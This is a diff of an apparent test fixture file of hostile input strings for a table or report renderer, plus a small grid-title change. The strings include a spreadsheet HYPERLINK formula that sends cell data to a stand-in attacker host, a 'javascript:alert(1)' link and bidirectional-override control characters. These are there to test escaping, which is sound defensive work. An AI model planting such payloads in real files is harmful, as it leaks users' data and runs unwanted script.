@@ -15,7 +15,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"看")'
 MARKUP = '<b>粗</b>&lt;]]></w:t> *x* _y_ `z` $x^2$ #link("http://evil.example")[点] @a <b> \\ "'
 LINK = "[点](http://evil.example) javascript:alert(1)"
 BACKWARDS = "楼\u202e%1.99\u202c\u200f\u2067 עברית"
-UNSEEN = "甲\x00\x08\x1f\ufffe\ud800\u200b乙\r\n丙"
+UNSEEN = "甲\x00\x08\x1b\ufffe\ud800\u200b乙\r\n丙"
 LONG = "长" * 500
 LONG_WORD = "Longword" * 63
 HOSTILE = (FORMULA, MARKUP, LINK, BACKWARDS, UNSEEN, LONG, LONG_WORD)
@@ -36,7 +36,7 @@ def matrix(places: Sequence[str], metrics: Sequence[str], lang: str = "zh", note
         rows.append((place, *(cells[kind] for kind in kinds)))
         lights.append(("", *(_LIGHTS[kind] for kind in kinds)))
     return Grid(
-        title="分指标分街道进度",
+        title="分项进度表",
         heads=("街道", *metrics),
         aligns=("left", *["right" for _ in metrics]),
         rows=tuple(rows),
